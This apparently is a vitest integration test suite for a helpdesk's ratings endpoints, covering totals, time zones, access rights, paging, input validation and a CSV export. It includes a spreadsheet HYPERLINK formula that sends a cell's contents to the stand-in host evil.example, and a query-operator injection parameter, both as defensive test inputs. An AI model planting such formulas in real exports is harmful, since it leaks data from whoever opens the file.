import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { DATABASES } from '../../../../../tests/harness/databases';
import { startDesk, type Desk } from '../../../../../tests/harness/desk';
import { call, createStaff, type StaffMember } from '../../../../../tests/harness/people';
import type { RatingTotals, ReasonPage } from '../../../contracts';
import { createColleague } from '../access/people-fixture';
import { clock } from '../platform/clock';
import { stopJobs } from '../platform/jobs';
import { readDefaultRoles } from '../access/default-roles';
import { RATING_DEFAULTS } from './rating-defaults';
import { ratingsAt } from './rating-fixture';

const realNow = clock.now;
/** Noon in UTC, which is the evening of that day in Karachi. */
const MARCH = (day: number) => Date.UTC(2026, 2, day, 12);
const FORMULA = '=HYPERLINK("http://evil.example?"&A1,"x")';
const READER = ['ticket.read', 'ticket.perform', 'ticket.assign', 'rating.read'] as const;

describe.each(DATABASES)('ratings of a period, on %s,', (kind) => {
  let desk: Desk;
  let at: ReturnType<typeof ratingsAt>;
  let ada: StaffMember;
  let zain: StaffMember;
  let supervisor: StaffMember;
  const number: Record<string, number> = {};

  beforeAll(async () => {
    desk = await startDesk({ database: kind });
    await stopJobs(desk.strapi);
    at = ratingsAt(desk);
    const right = { scope: 'all' as const, mayBeAssigned: true };
    ada = await createColleague(desk, { permissions: READER, right, name: 'Ada Agent' });
    zain = await createColleague(desk, {
      permissions: READER,
      right: { ...right, scope: 'own' },
      name: 'Zain Agent',
    });
    const roles = await readDefaultRoles(desk.strapi);
    supervisor = await createStaff(desk, {
      roles: [Number(roles?.supervisor)],
      name: 'Sara Supervisor',
    });
    const owner = await createStaff(desk, { roles: ['strapi-super-admin'], name: 'Olga Owner' });

    const on = (day: number) => {
      clock.now = () => MARCH(day);
    };
    on(1);
    const asked = await at.closed(ada, 'Asked and never rated');
    const early = await at.closed(ada, 'Rated later');
    on(2);
    const good = await at.closed(owner, 'Good');
    await at.rate(good.link, { score: '5', reason: 'Perfect' });
    const formula = await at.closed(ada, FORMULA);
    await at.rate(formula.link, { score: '1', reason: FORMULA });
    on(10);
    await at.rate(early.link, { score: '2', reason: 'First thought' });
    await at.rate(early.link, { score: '4', reason: 'Second thought' });
    const silent = await at.closed(ada, 'Without a reason');
    await at.rate(silent.link, { score: '4' });
    for (const [name, request] of Object.entries({ asked, early, good, formula, silent })) {
      number[name] = request.number;
    }
    await at.set({ ...RATING_DEFAULTS, scale: 'thumbs' });
    const thumb = await at.closed(owner, 'Thumb');
    await at.rate(thumb.link, { score: '1', reason: 'No' });
    await at.set(RATING_DEFAULTS);
    clock.now = realNow;
  });
  afterAll(() => desk.stop());

  const query = (from: number, to: number, zone = 'UTC', more = '') =>
    `?from=2026-03-${String(from).padStart(2, '0')}&to=2026-03-${String(to).padStart(2, '0')}` +
    `&timeZone=${encodeURIComponent(zone)}${more}`;
  const totals = async (who: StaffMember, asked: string) => {
    const { status, body } = await call(desk, who, 'GET', `/helpdesk/ratings${asked}`);
    expect(status).toBe(200);
    // The contract of this door.
    return body.data as RatingTotals;
  };
  const reasons = async (who: StaffMember, asked: string) => {
    const { status, body } = await call(desk, who, 'GET', `/helpdesk/ratings/reasons${asked}`);
    expect(status).toBe(200);
    return body.data as ReasonPage;
  };
  const table = async (who: StaffMember, asked: string): Promise<Record<string, string>[]> => {
    const headers = { Authorization: `Bearer ${who.token}` };
    const response = await fetch(`${desk.url}/helpdesk/ratings/export${asked}`, { headers });
    expect(response.status).toBe(200);
    expect(response.headers.get('content-disposition')).toContain('attachment; filename="ratings-');
    expect(response.headers.get('x-content-type-options')).toBe('nosniff');
    return parse(await response.text(), { columns: true, bom: true });
  };

  test('are counted once for each answer, by the newest', async () => {
    const { total } = await totals(supervisor, query(1, 31));
    expect(total).toEqual({
      asked: 6,
      answered: 5,
      rated: 5,
      average: (100 + 0 + 75 + 75 + 0) / 5,
      distribution: [2, 0, 0, 2, 1],
    });
  });

  test('are parted by who answered and by what it was', async () => {
    const { agents, actions } = await totals(supervisor, query(1, 31));
    expect(agents.map(({ agent, ...rest }) => [agent.name, rest.asked, rest.rated])).toEqual([
      ['Ada Agent', 4, 3],
      ['Olga Owner', 2, 2],
    ]);
    expect(agents[0]).toMatchObject({ average: 50, distribution: [1, 0, 0, 2, 0] });
    expect(actions).toHaveLength(1);
    expect(actions[0]).toMatchObject({
      workflow: { key: 'support' },
      action: { key: 'reply-close', name: { en: 'Reply and close' } },
      rated: 5,
    });
  });

  test('belong to the days of the reader, and the answer rate to the days of asking', async () => {
    expect((await totals(supervisor, query(1, 1))).total).toMatchObject({
      asked: 2,
      answered: 1,
      rated: 0,
      average: null,
    });
    expect((await totals(supervisor, query(10, 10))).total).toMatchObject({ asked: 2, rated: 3 });
    // At noon in UTC the day in Kiritimati is the next one already.
    const there = 'Pacific/Kiritimati';
    expect((await totals(supervisor, query(10, 10, there))).total.rated).toBe(0);
    expect((await totals(supervisor, query(11, 11, there))).total.rated).toBe(3);
    expect(await totals(supervisor, query(20, 31))).toEqual({
      total: { asked: 0, answered: 0, rated: 0, average: null, distribution: [0, 0, 0, 0, 0] },
      agents: [],
      actions: [],
    });
  });

  test('are told with their reasons, the newest first, and lead to the requests', async () => {
    const { reasons: told, after } = await reasons(supervisor, query(1, 31));
    expect(after).toBeNull();
    expect(told.map(({ reason }) => reason)).toEqual(['No', 'Second thought', FORMULA, 'Perfect']);
    expect(told[1]).toMatchObject({
      at: MARCH(10),
      ticket: { number: number.early, subject: 'Rated later' },
      agent: { name: 'Ada Agent' },
      action: { key: 'reply-close' },
      score: 4,
      scale: 'stars',
      percent: 75,
    });
  });

  test('are only those of requests that the reader may see', async () => {
    expect((await totals(zain, query(1, 31))).total).toMatchObject({ asked: 0, rated: 0 });
    expect(await reasons(zain, query(1, 31))).toEqual({ reasons: [], after: null });
    expect(await table(zain, query(1, 31))).toEqual([]);
    const { key } = (await call(desk, zain, 'GET', '/helpdesk/me')).body.data as { key: string };
    const { version } = await at.read(supervisor, number.early);
    const given = { version, clientId: crypto.randomUUID(), agent: key, team: null };
    await call(desk, supervisor, 'POST', `/helpdesk/tickets/${number.early}/assign`, given);
    expect((await totals(zain, query(1, 31))).total).toMatchObject({ asked: 1, rated: 1 });
    const seen = (await reasons(zain, query(1, 31))).reasons;
    expect(seen.map(({ ticket }) => ticket.number)).toEqual([number.early]);
    expect((await table(zain, query(1, 31))).map(({ request }) => Number(request))).toEqual([
      number.early,
    ]);
  });

  test('are a table in which nothing is a formula', async () => {
    const rows = await table(supervisor, query(1, 31));
    expect(rows.map(({ request }) => Number(request))).toHaveLength(5);
    const hostile = rows.find(({ request }) => Number(request) === number.formula);
    expect(hostile).toMatchObject({
      rated_at: new Date(MARCH(2)).toISOString(),
      subject: `'${FORMULA}`,
      reason: `'${FORMULA}`,
      agent: 'Ada Agent',
      action: 'Reply and close',
      score: '1',
      best_score: '5',
      percent: '0',
      channel: 'mail',
    });
    expect(rows.find(({ request }) => Number(request) === number.silent)?.reason).toBe('');
  });

  test('are for those who have the permission, as supervisors do', async () => {
    const plain = await createColleague(desk, {
      permissions: ['ticket.read'],
      right: { scope: 'all' },
    });
    for (const path of ['', '/reasons', '/export']) {
      const asked = `/helpdesk/ratings${path}${query(1, 31)}`;
      expect((await call(desk, plain, 'GET', asked)).status).toBe(403);
      expect((await call(desk, null, 'GET', asked)).status).toBe(401);
    }
  });

  test.each([
    '',
    '?from=2026-03-01',
    '?from=2026-03-31&to=2026-03-01&timeZone=UTC',
    '?from=2020-01-01&to=2026-03-01&timeZone=UTC',
    '?from=2026-03-01&to=2026-03-02&timeZone=Mars/Olympus',
    '?from[$gt]=2026-03-01&to=2026-03-02&timeZone=UTC',
    '?from=2026-03-01&from=2026-03-02&to=2026-03-02&timeZone=UTC',
    '?from=2026-03-01&to=2026-03-02&timeZone=UTC&agent=1',
  ])('are not told for "%s"', async (asked) => {
    for (const path of ['', '/reasons', '/export']) {
      const { status, body } = await call(
        desk,
        supervisor,
        'GET',
        `/helpdesk/ratings${path}${asked}`
      );
      expect([path, status]).toEqual([path, 400]);
      expect(body).toMatchObject({ error: { details: { code: 'INPUT_INVALID' } } });
    }
  });

  test('come in pages that meet each once', async () => {
    clock.now = () => MARCH(20);
    const requests = await Promise.all(
      Array.from({ length: 30 }, (_, index) => at.closed(ada, `Many ${index}`))
    );
    for (const [index, { link }] of requests.entries()) {
      await at.rate(link, { score: '3', reason: `Reason ${index}` });
    }
    clock.now = realNow;
    const first = await reasons(supervisor, query(20, 20));
    expect(first.reasons).toHaveLength(25);
    const after = encodeURIComponent(first.after ?? '');
    const second = await reasons(supervisor, query(20, 20, 'UTC', `&after=${after}`));
    expect(second.after).toBeNull();
    const met = [...first.reasons, ...second.reasons].map(({ ticket }) => ticket.number);
    expect(new Set(met).size).toBe(30);
    const forged = query(20, 20, 'UTC', '&after=x');
    const path = `/helpdesk/ratings/reasons${forged}`;
    expect((await call(desk, supervisor, 'GET', path)).status).toBe(400);
  });
});
